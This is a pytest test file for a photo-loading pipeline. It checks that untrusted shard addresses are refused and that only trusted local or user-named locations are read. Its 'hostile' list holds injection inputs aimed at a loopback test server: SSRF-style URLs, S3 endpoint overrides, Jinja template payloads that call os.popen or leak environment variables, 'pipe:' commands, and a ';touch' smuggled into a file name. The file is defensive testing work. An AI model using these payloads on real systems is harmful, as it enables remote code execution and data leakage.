"""Photos come from where the user says, or from unchanged files of this machine, never from a stranger's."""

import base64
import json
import os
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline import storage
from pipeline.errors import ConfigError, ShardError
from pipeline.faces import images
from pipeline.shards.photos import SourcePhotos, trusted


@pytest.fixture
def shard(tmp_path, write_tar, photo):
    """A tar of two photos, with the rows that a run would have made of them."""
    path = write_tar(tmp_path / "s.tar", [("a.png", photo(0)), ("b.png", photo(1))])
    rows = [
        {"sample_index": i, "key": key, "height": 60, "width": 80} for i, key in enumerate("ab")
    ]
    return path, rows


@pytest.fixture
def server():
    """A server on loopback, and the requests that it saw."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *_):
            pass

    found = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=found.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{found.server_port}", seen
    found.shutdown()
    thread.join()


def chain(template, target):
    """An fsspec address that renders a template when it is opened."""
    record = {"version": 1, "templates": {"a": template}, "refs": {"x.tar": [target]}}
    data = base64.b64encode(json.dumps(record).encode()).decode()
    return f"reference://x.tar::data:application/x.json;base64,{data}"


def hostile(place, tmp_path):
    run = '{{ cycler.__init__.__globals__.os.popen("touch ' + str(tmp_path / "ran") + '").read() }}'
    os.mkfifo(tmp_path / "fifo.tar")
    return [
        f"http://{place}/internal/admin?delete=everything",
        f"s3://bucket/x.tar?scheme=http&endpoint_override={place}&region=us-east-1",
        f"S3://bucket/x.tar?scheme=http&endpoint_override={place}",
        chain("{{x}}", f"http://{place}/leak?k={{{{a.__globals__[os].environ[HOME]}}}}"),
        chain(run, "file:///etc/hostname"),
        f"simplecache::http://{place}/x.tar",
        "filecache::s3://bucket/x.tar",
        f"zip://x.tar::http://{place}/a.zip",
        f"x.tar::http://{place}/a.tar",
        f"pipe:touch {tmp_path / 'ran'}",
        "github://org:repo@main/x.tar",
        f"sftp://{place}/x.tar",
        "file:///dev/zero",
        "/dev/zero",
        str(tmp_path / "fifo.tar"),
        str(tmp_path),
        "",
    ]


def test_no_address_of_a_stranger_is_opened(server, tmp_path):
    place, seen = server
    for address in hostile(place, tmp_path):
        with pytest.raises(ShardError, match="--photos"):
            SourcePhotos(address, images.decode_or_none)
    assert seen == []
    assert not (tmp_path / "ran").exists()


def test_with_a_place_only_the_name_of_a_shard_is_taken(server, shard, tmp_path):
    place, seen = server
    path, rows = shard
    for address in ("s3://bucket/deep/s.tar?token=x", path, "http://host/s.tar", "/gone/s.tar"):
        photos = SourcePhotos(address, images.decode_or_none, photos=str(tmp_path))
        assert [photos.of(row).shape for row in rows] == [(60, 80, 3)] * 2
    for address in hostile(place, tmp_path):
        try:
            found = trusted(address, str(tmp_path), "")
        except ShardError:
            continue
        assert os.path.dirname(found) == str(tmp_path), address
    assert (
        trusted("x/../s.tar", "s3://mine/shards?region=eu", "")
        == "s3://mine/shards/s.tar?region=eu"
    )
    assert seen == []


def test_a_place_is_no_command_which_would_be_given_a_name_of_the_data_set():
    for place in ("pipe:", "pipe:cat"):
        with pytest.raises(ConfigError, match="not a command"):
            SourcePhotos("x;touch ran/s.tar", images.decode_or_none, photos=place)


def test_a_file_of_this_machine_is_read_if_it_is_what_was_inverted(shard):
    path, rows = shard
    version = storage.version(path)
    for name in (path, f"file://{path}"):
        assert SourcePhotos(name, images.decode_or_none, version=version).of(rows[1]) is not None
    os.utime(path, (1, 1))
    with pytest.raises(ShardError, match="has changed since it was inverted"):
        SourcePhotos(path, images.decode_or_none, version=version)
    # Copied, it is another file; the user may know better.
    folder = os.path.dirname(path)
    assert SourcePhotos(path, images.decode_or_none, folder, version).of(rows[0]) is not None


def test_photos_of_a_table_are_read_again(tmp_path, photo):
    path = tmp_path / "x.parquet"
    pq.write_table(pa.table({"key": ["a", "b"], "jpg": [photo(0), photo(1)]}), path)
    rows = [{"sample_index": i, "key": k, "height": 60, "width": 80} for i, k in enumerate("ab")]
    photos = SourcePhotos(str(path), images.decode_or_none, version=storage.version(str(path)))
    assert photos.of(rows[1]).shape == (60, 80, 3)
    elsewhere = SourcePhotos("s3://gone/x.parquet", images.decode_or_none, str(tmp_path))
    assert elsewhere.of(rows[0]).shape == (60, 80, 3)
    with pytest.raises(ShardError, match="has changed since it was inverted"):
        elsewhere.of({**rows[1], "key": "c"})


def test_a_photo_that_the_run_did_not_decode_is_no_change(tmp_path, write_tar, photo):
    path = write_tar(tmp_path / "s.tar", [("a.png", photo()), ("b.png", b"no image")])
    photos = SourcePhotos(path, images.decode_or_none, version=storage.version(path))
    rows = [
        {"sample_index": i, "key": k, "height": None, "width": None} for i, k in enumerate("ab")
    ]
    assert photos.of(rows[0]).shape == (60, 80, 3)  # its row may be a field_error
    assert photos.of(rows[1]) is None
    with pytest.raises(ShardError, match="has changed since it was inverted"):
        photos.of({**rows[1], "key": "c"})
    photos = SourcePhotos(path, images.decode_or_none)
    with pytest.raises(ShardError, match="has changed since it was inverted"):
        photos.of({**rows[0], "height": 61, "width": 80})
